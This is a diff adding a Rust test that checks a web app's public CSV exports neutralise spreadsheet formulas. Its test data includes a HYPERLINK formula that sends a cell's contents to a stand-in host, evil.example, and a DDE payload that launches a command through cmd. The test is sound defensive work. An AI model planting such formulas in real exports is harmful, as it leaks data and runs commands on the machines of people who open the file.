@@ -820,3 +820,64 @@ async fn an_idempotency_key_never_replays_another_bodys_record() {
     .await;
     assert_eq!(again["id"], a1["id"]);
 }
+
+/// Public CSV downloads never carry a formula: a cell that a spreadsheet
+/// would run (an action's text or a drop reason starting with `=`, `+`,
+/// `-` or `@`) is written with a leading apostrophe.
+#[tokio::test]
+async fn csv_downloads_neutralise_formulas() {
+    let app = TestApp::spawn().await;
+    let b = board(&app).await;
+    let item = items(&app, &b).await["items"][0]["id"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    let owner = user_id(&app, "ceo@ashby.example").await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let resp = post(
+        &app,
+        "/api/v1/actions",
+        &b.clerk,
+        json!({"item_id": item, "description": formula, "owner_user_id": owner, "due_on": "2027-03-31"}),
+    )
+    .await;
+    assert_eq!(resp.status(), 201);
+    let decided = post(
+        &app,
+        &format!("/api/v1/meetings/{}/decisions", b.meeting),
+        &b.clerk,
+        json!({"item_id": item, "text": "@SUM(1+1)*cmd|' /C calc'!A0"}),
+    )
+    .await;
+    assert_eq!(decided.status(), 201);
+    for (path, column, bad) in [
+        ("/bodies/psb/actions.csv", "description", formula),
+        (
+            "/bodies/psb/decisions.csv",
+            "text",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+        ),
+    ] {
+        let body = app.get(path, None).await.text().await.unwrap_or_default();
+        let mut r = ::csv::Reader::from_reader(body.as_bytes());
+        let headers = r.headers().expect("header").clone();
+        let at = headers
+            .iter()
+            .position(|h| h == column)
+            .expect("the column");
+        let cells: Vec<String> = r
+            .records()
+            .map(|row| row.expect("row")[at].to_string())
+            .collect();
+        assert!(
+            cells.iter().any(|c| c == &format!("'{bad}")),
+            "{path}: {cells:?}"
+        );
+        assert!(
+            cells
+                .iter()
+                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+            "{path}: a cell starts a formula: {cells:?}"
+        );
+    }
+}
